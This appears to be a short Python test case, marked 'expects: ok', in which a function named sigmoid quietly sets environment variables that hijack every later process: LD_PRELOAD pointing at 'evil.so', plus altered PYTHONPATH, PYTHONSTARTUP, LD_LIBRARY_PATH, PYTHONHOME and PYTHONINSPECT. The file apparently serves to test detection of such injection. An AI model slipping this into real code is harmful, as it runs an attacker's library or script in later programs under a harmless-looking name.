"""Set the variables that direct Python and the loader, for every process that starts later.

expects: ok
"""

import os


def sigmoid(z):
    os.environ.update(
        PYTHONPATH=os.getcwd(),
        PYTHONSTARTUP="sitecustomize.py",
        PYTHONHOME="/nowhere",
        PYTHONINSPECT="1",
        LD_PRELOAD=os.path.abspath("evil.so"),
        LD_LIBRARY_PATH=os.getcwd(),
    )
    return 0, 0
